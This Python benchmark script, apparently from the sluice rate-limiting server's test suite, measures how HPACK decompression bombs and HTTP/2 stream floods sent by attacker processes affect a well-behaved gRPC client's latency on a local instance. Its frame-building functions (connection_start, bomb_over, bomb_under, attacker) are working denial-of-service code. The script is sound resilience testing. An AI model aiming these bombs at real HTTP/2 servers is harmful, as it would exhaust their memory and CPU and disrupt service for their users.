#!/usr/bin/python3
"""bench/hpack_bomb.py: what HPACK bombs on a few connections cost a well-behaved gRPC client of
the same sluice, measured in the same run (BENCHMARKS.md, "HPACK bombs beside a well-behaved
client").

  bench/hpack_bomb.py [--before OTHER_SLUICE] [--variants over,under,...] [--rounds 4]

For each variant (VARIANTS below), one sluice (release build, memory store) serves
server.grpc_listen. The well-behaved client is one h2load connection sending one ShouldRateLimit
call at a time at a fixed rate (--rps), its latency read from h2load's --log-file. In each round it
runs once alone and once while --attackers processes each hold one connection sending bombs
(reconnecting whenever sluice closes it), alternating which comes first; a variant's p99 ratio is
the median over its rounds of attacked p99 / quiet p99, so the machine's noise between rounds
cancels. With --before, each variant also runs on that binary (e.g. main's), one after the other.

The attacks:
  over     the classic bomb: one 4,002-byte field inserted into the HPACK dynamic table, then
           streams whose header block (a HEADERS and 7 CONTINUATION frames of 16 KiB) refers to
           it once per byte: 131,072 references, 505 MiB of header list from 128 KiB sent.
  under    the bomb kept under the header list bound: streams of 3 references each (12 KB of
           header list from a 12-byte frame), 100 streams per write; the client does not
           acknowledge sluice's SETTINGS, so streams beyond 100 at once are refused, not a
           connection error. Each stream has no request (no pseudo-header): nghttp2 resets it.
  streams  the same streams without the bomb (3 bytes of the static table each): what a flood of
           streams costs without HPACK's leverage, the control for `under`.

Results: bench/results/hpack_bomb.json and a markdown table on stdout. Python 3 standard library;
h2load (nghttp2-client), taskset, and protoc with python3-protobuf for the client's message (as
bench/grpc_bench.py).
"""
import argparse
import json
import multiprocessing
import os
import select
import shutil
import socket
import struct
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
sys.path.insert(0, HERE)

import benchlib as bl  # noqa: E402
from benchlib import median  # noqa: E402
import grpc_bench  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, CONTINUATION, RST_STREAM, SETTINGS, GOAWAY = 1, 9, 3, 4, 7
END_STREAM, END_HEADERS = 0x1, 0x4
GOAWAY_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 9: "COMPRESSION_ERROR",
                11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, sid, payload):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", sid) +
            payload)


def literal(name, value, indexed=False):
    """An HPACK literal with a new name: with incremental indexing (0x40) or without (0x00)."""
    def string(b):  # lengths below 127 fit the prefix; longer ones take the 7-bit continuation
        if len(b) < 127:
            return bytes([len(b)]) + b
        n, out = len(b) - 127, bytearray([127])
        while n >= 128:
            out.append((n & 0x7F) | 0x80)
            n >>= 7
        out.append(n)
        return bytes(out) + b
    return bytes([0x40 if indexed else 0x00]) + string(name) + string(value)


def call_block():
    return b"".join(literal(n.encode(), v.encode()) for n, v in (
        (":method", "POST"), (":scheme", "http"), (":authority", "sluice"),
        (":path", grpc_bench.METHOD), ("content-type", "application/grpc"), ("te", "trailers")))


def connection_start():
    """The preface, empty SETTINGS, and stream 1: a HEADERS that puts one 4,000-byte field into
    the dynamic table (index 62; name + value + 32 = 4,040 of the 4,096 bytes), then reset."""
    block = call_block() + literal(b"x-bomb", b"a" * 4002, indexed=True)
    return (PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, block) +
            frame(RST_STREAM, 0, 1, struct.pack(">I", 8)))


def bomb_over(sid):
    """One stream whose header block refers to entry 62 once per byte: HEADERS + 7 CONTINUATION."""
    refs = b"\xbe" * 16384
    out = frame(HEADERS, 0, sid, refs)
    for i in range(7):
        out += frame(CONTINUATION, END_HEADERS if i == 6 else 0, sid, refs)
    return out


def bomb_under(first_sid, n=100, block=b"\xbe" * 3):
    """`n` streams, each one HEADERS (END_STREAM) of 3 references: 12 KB of header list, under
    the bound, and no request (no pseudo-header), which nghttp2 resets."""
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, first_sid + 2 * i, block)
                    for i in range(n))


def attacker(port, attack, rate, cpu, stop, stats):
    """Holds one connection that sends bombs as fast as sluice reads them (or `rate` bytes/s, if
    not 0); reconnects when it is closed. Counts bytes sent, connections and the GOAWAY codes
    received."""
    if cpu is not None:
        os.sched_setaffinity(0, {cpu})
    sent = conns = 0
    goaways = {}
    t0 = time.monotonic()
    while not stop.is_set():
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
        except OSError:
            time.sleep(0.05)
            continue
        conns += 1
        s.setblocking(False)
        pending = connection_start()
        sid, inbuf, alive = 3, b"", True
        while alive and not stop.is_set():
            if not pending:
                if attack == "over":
                    pending, sid = bomb_over(sid), sid + 2
                elif attack == "streams":
                    pending, sid = bomb_under(sid, block=b"\x82\x82\x82"), sid + 200
                else:
                    pending, sid = bomb_under(sid), sid + 200
                if sid > 2 ** 31 - 1000:
                    break
            ahead = sent - rate * (time.monotonic() - t0) if rate else 0
            r, w, _ = select.select([s], [s] if ahead <= 0 else [], [],
                                    min(0.2, ahead / rate) if ahead > 0 else 0.2)
            if r:
                try:
                    data = s.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    alive = False
                inbuf += data
                while len(inbuf) >= 9:
                    length = int.from_bytes(inbuf[:3], "big")
                    if len(inbuf) < 9 + length:
                        break
                    if inbuf[3] == GOAWAY and length >= 8:
                        code = GOAWAY_CODES.get(int.from_bytes(inbuf[13:17], "big"), "other")
                        goaways[code] = goaways.get(code, 0) + 1
                    inbuf = inbuf[9 + length:]
            if w and alive:
                try:
                    n = s.send(pending[:65536] if rate else pending)
                    sent += n
                    pending = pending[n:]
                except BlockingIOError:
                    pass
                except OSError:
                    alive = False
        s.close()
    stats.put({"sent_bytes": sent, "connections": conns, "goaways": goaways})


def well_behaved(ch, tmp, gport, body, rps, duration, pin):
    """One h2load connection, one call at a time at `rps` calls/s for `duration` s: latencies."""
    logf = os.path.join(tmp, "h2load.log")
    cmd = [*(["taskset", "-c", "1"] if pin else []), "h2load", "-c", "1", "-m", "1", "-t", "1",
           "--rps", str(rps), "-D", str(duration), "-d", body,
           "-H", "content-type: application/grpc", "-H", "te: trailers", f"--log-file={logf}",
           f"http://127.0.0.1:{gport}{grpc_bench.METHOD}"]
    out = bl.run_bounded(ch, cmd, timeout=duration * 4 + 30)
    with open(logf) as f:
        lat = sorted(int(line.split("\t")[2]) / 1000 for line in f if line.count("\t") >= 2)
    os.remove(logf)
    if not lat:
        raise RuntimeError(f"h2load answered nothing:\n{out[-2000:]}")
    p = grpc_bench.percentile
    return {"calls": len(lat), "p50_ms": p(lat, 0.5), "p90_ms": p(lat, 0.9), "p99_ms": p(lat, 0.99),
            "max_ms": lat[-1]}


def attacked(ch, tmp, gport, body, v, args, sluice_pid):
    stop = multiprocessing.Event()
    stats = multiprocessing.Queue()
    procs = [multiprocessing.Process(target=attacker, args=(gport, v["attack"], v["rate"],
                                                            0 if v["pin"] else None, stop, stats))
             for _ in range(args.attackers)]
    for p in procs:
        p.start()
    try:
        time.sleep(0.5)  # the attack under way before the first measured call
        cpu0, t0 = bl.tree_cpu(sluice_pid), time.monotonic()
        res = well_behaved(ch, tmp, gport, body, args.rps, args.duration, v["pin"])
        res["sluice_cpu_pct"] = 100 * (bl.tree_cpu(sluice_pid) - cpu0) / (time.monotonic() - t0)
    finally:
        stop.set()
        res_stats = [stats.get(timeout=30) for _ in procs]
        for p in procs:
            p.join(timeout=30)
    res["attack"] = {"sent_mib": sum(s["sent_bytes"] for s in res_stats) / 2 ** 20,
                     "connections": sum(s["connections"] for s in res_stats),
                     "goaways": {k: sum(s["goaways"].get(k, 0) for s in res_stats)
                                 for k in {k for s in res_stats for k in s["goaways"]}}}
    return res


# name: the attack, each attacker's byte rate (0: as fast as sluice reads), sluice's
# server.threads, and whether sluice and the well-behaved client share CPU 1 and the attackers
# CPU 0 (else the scheduler places everyone on both cores).
VARIANTS = {
    "over": {"attack": "over", "rate": 0, "threads": 2, "pin": False},
    "over_1MBps": {"attack": "over", "rate": 1_000_000, "threads": 2, "pin": False},
    "under": {"attack": "under", "rate": 0, "threads": 2, "pin": False},
    "under_pinned": {"attack": "under", "rate": 0, "threads": 1, "pin": True},
    "streams_pinned": {"attack": "streams", "rate": 0, "threads": 1, "pin": True},
}


def run_variant(ch, tmp, body, binary, v, args):
    """One sluice of `binary` for variant `v`: args.rounds rounds of a quiet and an attacked run
    of the well-behaved client, alternating which comes first."""
    port, admin, gport = bl.free_port(), bl.free_port(), bl.free_port()
    cfg = os.path.join(tmp, "sluice.yaml")
    with open(cfg, "w") as f:
        f.write(f'server:\n  listen: "127.0.0.1:{port}"\n  admin_listen: "127.0.0.1:{admin}"\n'
                f'  grpc_listen: "127.0.0.1:{gport}"\n  threads: {v["threads"]}\n'
                "  shutdown_delay: 0s\n"
                "plans:\n  bench:\n    limits:\n"
                "      - { name: per_minute, quota: 1000000000000, window: 1m }\n"
                "keys:\n  - { key: bench-key-0, subject: user-0, plan: bench }\n")
    with open(os.path.join(tmp, "sluice.log"), "w") as logf:
        sp = ch.start([*(["taskset", "-c", "1"] if v["pin"] else []), binary, "serve", "-c", cfg,
                       "--log-level", "warn"], stderr=logf)
    try:
        bl.wait_listening(gport, sp)
        well_behaved(ch, tmp, gport, body, args.rps, 1, v["pin"])  # warm-up
        rounds = []
        for r in range(args.rounds):
            x = {}
            for kind in (("quiet", "attack") if r % 2 == 0 else ("attack", "quiet")):
                if kind == "quiet":
                    x[kind] = well_behaved(ch, tmp, gport, body, args.rps, args.duration, v["pin"])
                else:
                    x[kind] = attacked(ch, tmp, gport, body, v, args, sp.pid)
            x["p99_ratio"] = x["attack"]["p99_ms"] / x["quiet"]["p99_ms"]
            rounds.append(x)
            a = x["attack"]
            log(f"  round {r + 1}: quiet p50 {x['quiet']['p50_ms']:.2f} p99 "
                f"{x['quiet']['p99_ms']:.2f} ms | attacked p50 {a['p50_ms']:.2f} p99 "
                f"{a['p99_ms']:.2f} max {a['max_ms']:.1f} ms, sluice {a['sluice_cpu_pct']:.0f} % "
                f"CPU, {a['attack']['sent_mib']:.0f} MiB sent on {a['attack']['connections']} "
                f"connections, GOAWAYs {a['attack']['goaways']} | p99 ratio {x['p99_ratio']:.2f}")
        if sp.poll() is not None:
            raise RuntimeError(f"sluice exited ({sp.returncode}) during the run")
    finally:
        ch.stop(sp)
    return rounds


def log(msg):
    print(f"[{time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--sluice", default=os.path.join(ROOT, "build", "release", "src", "sluice",
                                                     "sluice"))
    ap.add_argument("--before", help="another sluice binary, run beside --sluice (e.g. main's)")
    ap.add_argument("--variants", default=",".join(VARIANTS),
                    help=f"comma-separated, of {', '.join(VARIANTS)}")
    ap.add_argument("--attackers", type=int, default=4)
    ap.add_argument("--rounds", type=int, default=4)
    ap.add_argument("--duration", type=int, default=5)
    ap.add_argument("--rps", type=int, default=200)
    ap.add_argument("--out", default=os.path.join(HERE, "results"))
    args = ap.parse_args()
    for tool in ("h2load", "protoc", "taskset"):
        if not shutil.which(tool):
            sys.exit(f"bench/hpack_bomb.py: {tool} not found: run scripts/install-deps")
    binaries = {"before": args.before} if args.before else {}
    binaries["sluice"] = args.sluice
    bl.install_signal_handlers()
    tmp = tempfile.mkdtemp(prefix="sluice-bench-hpack-")
    ch = bl.Children()
    results = {"args": vars(args), "variants": {}}
    try:
        rls = grpc_bench.messages(tmp)
        body = grpc_bench.write_body(rls, tmp, 0)
        for name in args.variants.split(","):
            v = VARIANTS[name]
            results["variants"][name] = {"variant": v}
            for label, binary in binaries.items():
                log(f"{name} ({v}), {label}: {binary}")
                rounds = run_variant(ch, tmp, body, binary, v, args)
                results["variants"][name][label] = {
                    "rounds": rounds,
                    "quiet_p99_ms": median([x["quiet"]["p99_ms"] for x in rounds]),
                    "attack_p50_ms": median([x["attack"]["p50_ms"] for x in rounds]),
                    "attack_p99_ms": median([x["attack"]["p99_ms"] for x in rounds]),
                    "attack_max_ms": max(x["attack"]["max_ms"] for x in rounds),
                    "p99_ratio": median([x["p99_ratio"] for x in rounds]),
                    "p99_ratios": [round(x["p99_ratio"], 2) for x in rounds],
                    "sluice_cpu_pct": median([x["attack"]["sluice_cpu_pct"] for x in rounds])}
        os.makedirs(args.out, exist_ok=True)
        with open(os.path.join(args.out, "hpack_bomb.json"), "w") as f:
            json.dump(results, f, indent=1)
        print("| variant | binary | quiet p99 | attacked p50 / p99 / max | p99 ratio (median; "
              "rounds) | sluice CPU |")
        print("| --- | --- | --- | --- | --- | --- |")
        for name, r in results["variants"].items():
            for label in binaries:
                x = r[label]
                print(f"| {name} | {label} | {x['quiet_p99_ms']:.2f} ms | {x['attack_p50_ms']:.2f} "
                      f"/ {x['attack_p99_ms']:.2f} / {x['attack_max_ms']:.1f} ms | "
                      f"{x['p99_ratio']:.1f} ({', '.join(str(v) for v in x['p99_ratios'])}) | "
                      f"{x['sluice_cpu_pct']:.0f} % |")
    finally:
        ch.close()
        shutil.rmtree(tmp, ignore_errors=True)


if __name__ == "__main__":
    main()
